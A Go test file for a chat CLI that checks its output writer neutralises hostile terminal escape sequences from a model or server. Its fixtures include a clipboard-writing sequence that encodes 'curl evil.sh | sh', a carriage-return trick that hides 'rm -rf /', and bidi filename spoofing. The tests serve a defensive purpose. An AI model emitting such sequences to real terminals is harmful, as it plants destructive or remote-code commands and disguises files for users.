package cli

import (
	"bytes"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"crewagent/backend/llm/fakellm"
)

// Escape sequences a hostile model or server would send to a terminal.
const (
	osc52      = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" // writes the clipboard
	titleSet   = "\x1b]0;pwned\x07"                       // retitles the window
	clear      = "\x1b[2J\x1b[H"                          // clears the screen
	c1CSI      = "\u009b2J"                               // CSI as one C1 character
	crOverride = "rm -rf / # safe\rls    "                // overwrite what was printed
	backspaces = "yes\b\b\bno "
	// bidi reorders what is shown: the title reads "invoice_fdp.exe" as "invoice_exe.pdf".
	bidi = "invoice_\u202efdp.exe \u2066iso\u2069 \u202a\u202b\u202c\u202d \u2067\u2068 marks\u200e\u200f\u061c"
)

// terminalActive reports whether s still holds anything a terminal acts on.
func terminalActive(s string) bool {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || isBidiControl(r) {
			return true
		}
	}
	return !utf8.ValidString(s)
}

func TestTermWriter(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text\nwith\ttabs\n", "plain text\nwith\ttabs\n"},
		{osc52, "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇"},
		{titleSet + "hi", "␛]0;pwned␇hi"},
		{clear, "␛[2J␛[H"},
		{c1CSI, "�2J"},
		{crOverride, "rm -rf / # safe␍ls    "},
		{backspaces, "yes␈␈␈no "},
		{"windows\r\nline ends\r\n", "windows\nline ends\n"},
		{"bell\a del\x7f nul\x00", "bell␇ del␡ nul␀"},
		{"bad \xff\xfe utf8 中文", "bad �� utf8 中文"},
		{bidi, "invoice_⟨U+202E⟩fdp.exe ⟨U+2066⟩iso⟨U+2069⟩ ⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+202D⟩ ⟨U+2067⟩⟨U+2068⟩ marks⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩"},
		{"עברית and العربية stay", "עברית and العربية stay"},
	}
	for _, tc := range tests {
		for _, split := range []int{0, 1, 2, 3} { // whole, and cut into pieces of n bytes
			var out bytes.Buffer
			w := newTermWriter(&out)
			if split == 0 {
				w.Write([]byte(tc.in))
			} else {
				for i := 0; i < len(tc.in); i += split {
					w.Write([]byte(tc.in[i:min(i+split, len(tc.in))]))
				}
			}
			w.Flush()
			if out.String() != tc.want {
				t.Errorf("%q (pieces of %d): %q, want %q", tc.in, split, out.String(), tc.want)
			}
			if terminalActive(out.String()) {
				t.Errorf("%q: output still active: %q", tc.in, out.String())
			}
		}
	}
}

func TestJSONWriterKeepsValuesExact(t *testing.T) {
	v := map[string]string{"text": "a" + osc52 + titleSet + clear + c1CSI + "\u0085" + crOverride + backspaces + "中文 ok" + bidi}
	for _, split := range []int{0, 1, 7} {
		var raw bytes.Buffer
		json.NewEncoder(&raw).Encode(v)
		var out bytes.Buffer
		jw := &jsonWriter{w: &out}
		if split == 0 {
			jw.Write(raw.Bytes())
		} else {
			for b := raw.Bytes(); len(b) > 0; b = b[min(split, len(b)):] {
				jw.Write(b[:min(split, len(b))])
			}
		}
		jw.Flush()
		if terminalActive(out.String()) {
			t.Fatalf("JSON output still active: %q", out.String())
		}
		var back map[string]string
		if err := json.Unmarshal(out.Bytes(), &back); err != nil || back["text"] != v["text"] {
			t.Fatalf("pieces of %d: %q → %q (%v)", split, v["text"], back["text"], err)
		}
	}
}

// Through the real commands: the model's answer streamed by chat, the title taken from the
// message, the server's error message; --json keeps every value.
func TestCommandOutputNeutralisesControlSequences(t *testing.T) {
	c := newChatEnv(t)
	hostile := "Here is the fix." + osc52 + titleSet + clear + c1CSI + "\n" + crOverride + backspaces + "\n"
	c.srv.Enqueue(fakellm.TextChunks(hostile, 7, 0))
	r := c.run(t, "", "chat", "\x1b]0;evil title\x07please fix it")
	if r.code != ExitOK || terminalActive(r.stdout) || terminalActive(r.stderr) || !strings.Contains(r.stdout, "Here is the fix.␛]52;c;") {
		t.Fatalf("chat: %q / %q", r.stdout, r.stderr)
	}
	convID := onlyConversation(t, c)
	for _, args := range [][]string{{"conversations", "list"}, {"conversations", "show", convID}} {
		r := c.run(t, "", args...)
		if r.code != ExitOK || terminalActive(r.stdout) || !strings.Contains(r.stdout, "␛]0;evil title␇please fix it") {
			t.Fatalf("%v: %q", args, r.stdout)
		}
	}

	c.srv.Enqueue(fakellm.Text(hostile))
	r = c.run(t, "", "--json", "chat", "--conversation", convID, "again")
	var out struct{ Text string }
	if r.code != ExitOK || terminalActive(r.stdout) || json.Unmarshal([]byte(r.stdout), &out) != nil || out.Text != hostile {
		t.Fatalf("chat --json: %q", r.stdout)
	}

	c.srv.Enqueue(fakellm.Error(http.StatusBadRequest, "invalid_request_error", "", "bad request"+clear+osc52))
	r = c.run(t, "", "chat", "--conversation", convID, "and again")
	if r.code != ExitLLMFailed || terminalActive(r.stderr) || !strings.Contains(r.stderr, "bad request") {
		t.Fatalf("error: %q", r.stderr)
	}
}

// Bidi controls in a title (taken from the message) and in the model's answer show as
// their code points in the terminal; --json keeps the values exact, escaped.
func TestCommandOutputShowsBidiControls(t *testing.T) {
	c := newChatEnv(t)
	c.srv.Enqueue(fakellm.TextChunks("Saved as report_\u202etxt.exe done", 3, 0))
	r := c.run(t, "", "chat", "open invoice_\u202efdp.exe")
	if r.code != ExitOK || terminalActive(r.stdout) || !strings.Contains(r.stdout, "report_⟨U+202E⟩txt.exe") {
		t.Fatalf("chat: %q / %q", r.stdout, r.stderr)
	}
	r = c.run(t, "", "conversations", "list")
	if r.code != ExitOK || terminalActive(r.stdout) || !strings.Contains(r.stdout, "invoice_⟨U+202E⟩fdp.exe") {
		t.Fatalf("list: %q", r.stdout)
	}
	r = c.run(t, "", "--json", "conversations", "list")
	var list []struct{ Title string }
	if r.code != ExitOK || terminalActive(r.stdout) || json.Unmarshal([]byte(r.stdout), &list) != nil || len(list) != 1 || list[0].Title != "open invoice_\u202efdp.exe" {
		t.Fatalf("list --json: %q", r.stdout)
	}
}
